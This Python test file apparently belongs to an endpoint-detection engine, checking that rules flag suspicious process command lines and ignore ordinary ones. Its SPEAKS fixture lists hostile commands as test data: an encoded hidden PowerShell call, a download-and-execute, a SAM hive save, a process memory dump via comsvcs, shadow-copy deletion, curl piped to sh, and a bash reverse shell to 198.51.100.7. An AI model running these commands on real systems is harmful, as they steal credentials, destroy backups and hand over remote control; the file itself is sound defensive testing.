"""Expert rules over command lines: conventions of the table, what speaks and what does not, one line and many alike."""

from __future__ import annotations

import numpy as np
import pytest

from engine.knowledge import command_rules as module
from engine.knowledge.command_rules import CommandRules, command_rules, process_values, reasons, rules, spellings, told
from engine.knowledge.roles import stem
from tests.engine.process_samples import make_table, with_originals

PS = "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe"
CMD = "c:\\windows\\system32\\cmd.exe"
SH = "/bin/sh"

SPEAKS = [
    (PS, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
    (CMD, "cmd.exe /c powershell.exe -ep bypass -c iex ((New-Object Net.WebClient).DownloadString('http://198.51.100.7/a'))"),
    ("c:\\windows\\system32\\reg.exe", "reg save HKLM\\SAM c:\\temp\\s.hiv"),
    ("c:\\windows\\system32\\rundll32.exe", "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\temp\\x.dmp full"),
    ("c:\\windows\\system32\\vssadmin.exe", "vssadmin delete shadows /all /quiet"),
    (SH, "sh -c curl -fsSL http://198.51.100.7/x.sh | sh"),
    ("/bin/bash", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
    ("/usr/bin/find", "find / -perm -4000 -type f"),
    ("/usr/bin/cat", "cat /etc/shadow"),
]
SILENT = [
    (PS, "powershell.exe"),
    ("c:\\windows\\system32\\svchost.exe", "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("c:\\program files\\google\\chrome\\application\\chrome.exe", '"chrome.exe" --type=renderer --lang=en-US'),
    ("/usr/bin/gcc", "gcc -O2 -c -o main.o main.c"),
    (SH, "sh -c make all"),
    ("/usr/bin/ls", "ls -la /home/john"),
    ("/usr/sbin/sshd", "sshd: john [priv]"),
]


@pytest.mark.parametrize(("path", "text"), SPEAKS)
def test_what_people_would_investigate_has_a_reason(path, text):
    assert reasons(path, text)
    assert process_values(*make_table([((path,), -1, text)]))[0] >= 0.5


@pytest.mark.parametrize(("path", "text"), SILENT)
def test_everyday_command_lines_have_none(path, text):
    assert reasons(path, text) == ()
    assert process_values(*make_table([((path,), -1, text)]))[0] == 0.0


def test_many_lines_are_judged_like_one(monkeypatch):
    monkeypatch.setattr(module, "CHUNK", 3)
    rows = [((path,), -1, text) for path, text in SPEAKS + SILENT]
    together = process_values(*make_table(rows))
    alone = [process_values(*make_table([row]))[0] for row in rows]
    assert together == pytest.approx(alone)


def test_a_chain_is_told_of_by_its_oddest_command_line():
    """All lines end chains of their own, but the last two, which are of one program."""
    quiet, loud = (SH, "sh -c make all"), (SH, SPEAKS[5][1])
    corpus, table = make_table([((path,), -1, text) for path, text in [*SPEAKS[:5], quiet, loud]])
    said = told(corpus, table, np.arange(len(corpus)))
    for path, text in [*SPEAKS[:5], loud]:
        row = next(row for row in range(len(corpus)) if corpus.paths[corpus.steps[row, 0]] == path)
        assert said[row].line == reasons(path, text)
        assert said[row].renamed == ""
    assert told(corpus, table, np.array([], dtype=np.int64)) == {}
    assert told(*make_table([((path,), -1, text) for path, text in SILENT]), np.arange(len(SILENT))) == {}


def test_numbers_and_words_agree():
    for path, text in SPEAKS + SILENT:
        speaking = [rule.weight for rule in rules(not path.startswith("/")) if rule.why in reasons(path, text)]
        assert process_values(*make_table([((path,), -1, text)]))[0] == pytest.approx(sum(speaking))


def test_the_chain_has_its_processes_highest_and_nothing_known_is_nan():
    one, other = (PS,), (CMD,)
    corpus, table = make_table([(one, -1, "powershell.exe"), (one, -1, "powershell -enc AAAA"), (other, -1, None)])
    value = command_rules(corpus, table)
    assert value[0] == pytest.approx(0.8)
    assert np.isnan(value[1])


HIDDEN = "c:\\users\\<u>\\update.exe"


def test_a_renamed_shell_is_worth_its_name_and_what_it_was_asked_for():
    encoded = "update.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    rows = [((HIDDEN,), -1, encoded), ((HIDDEN,), -1, "update.exe"), ((PS,), -1, "powershell.exe"), ((SH,), -1, None)]
    corpus, table = make_table(rows)
    assert process_values(corpus, table)[:3].tolist() == [0, 0, 0]  # nobody's program
    known = with_originals(table, ["PowerShell.EXE"] * 3 + [None])
    value = process_values(corpus, known)
    openly = process_values(*make_table([((PS,), -1, encoded)]))[0]
    assert openly >= 0.8
    assert value[:3] == pytest.approx([1.0 + openly, 1.0, 0.0])
    assert np.isnan(value[3])
    row = int(known.chain[0])
    said = told(corpus, known, np.array([row]))[row]
    assert said.renamed.startswith("its version resource says powershell, a shell, under another name")
    assert said.line == reasons(PS, encoded)
    assert told(corpus, table, np.array([row])) == {}


def test_an_original_name_alone_is_known_and_nothing_of_either_is_not():
    rows = [((HIDDEN,), -1, None), (("c:\\a.exe",), -1, None), (("c:\\b.exe",), -1, None), ((SH,), -1, None)]
    corpus, table = make_table(rows)
    known = with_originals(table, ["Cmd.Exe", "a.exe", None, "bash.exe"])
    value = process_values(corpus, known)
    assert value[:2].tolist() == [1.0, 0.0]
    assert np.isnan(value[2:]).all()  # Linux has no version resources
    row = int(known.chain[0])
    assert told(corpus, known, np.arange(len(corpus))).keys() == {row}


def test_numbers_and_words_agree_of_renamed_tools_too():
    recorded = ["Cmd.Exe", "PowerShell.EXE", "psexec.c", "notepad.exe", "-", "python.exe"]
    for path, text in SPEAKS + SILENT:
        for name in recorded:
            corpus, table = make_table([((path,), -1, text)])
            one = process_values(corpus, with_originals(table, [name]))[0]
            said = told(corpus, with_originals(table, [name]), np.array([0])).get(0)
            together = () if said is None else (*said.line, *([said.renamed] if said.renamed else []))
            assert sorted(together) == sorted(reasons(path, text, name))
            assert (one > 0) == bool(together)


def test_a_rule_needs_its_program_and_a_whole_phrase():
    reg = "c:\\windows\\system32\\reg.exe"
    assert "reads or copies stored credentials (T1003, T1552)" in reasons(reg, "reg save hklm\\sam x")
    assert "reads or copies stored credentials (T1003, T1552)" not in reasons(reg, "reg save hklm\\software x")
    assert reasons("c:\\tools\\chat.exe", "chat.exe -enc") == ()  # PowerShell's rule, another program


def test_systems_keep_to_their_own_rules():
    assert reasons("/usr/bin/cat", "cat lsass.dmp -ma lsass") == ()
    assert not set(rules(True)) & set(rules(False))


def test_hostile_text_is_bounded():
    text = "sh -c " + "curl | sh " * 100_000
    assert reasons(SH, text)
    assert reasons(SH, "\x00\x1b[31m\ud800") == ()


def test_the_table_keeps_its_conventions():
    for windows in (True, False):
        for rule in rules(windows):
            assert 0 < rule.weight <= 1
            assert rule.why
            assert rule.phrases
            assert all(rule.phrases), f"a phrase without words: {rule.why}"
            assert all(name == stem(name) and spellings(name) for name in rule.images)
        numbered = CommandRules.of(rules(windows))
        assert (numbered.slot >= 0).sum() == numbered.slot.max() + 1, "two words of the rules share a number"
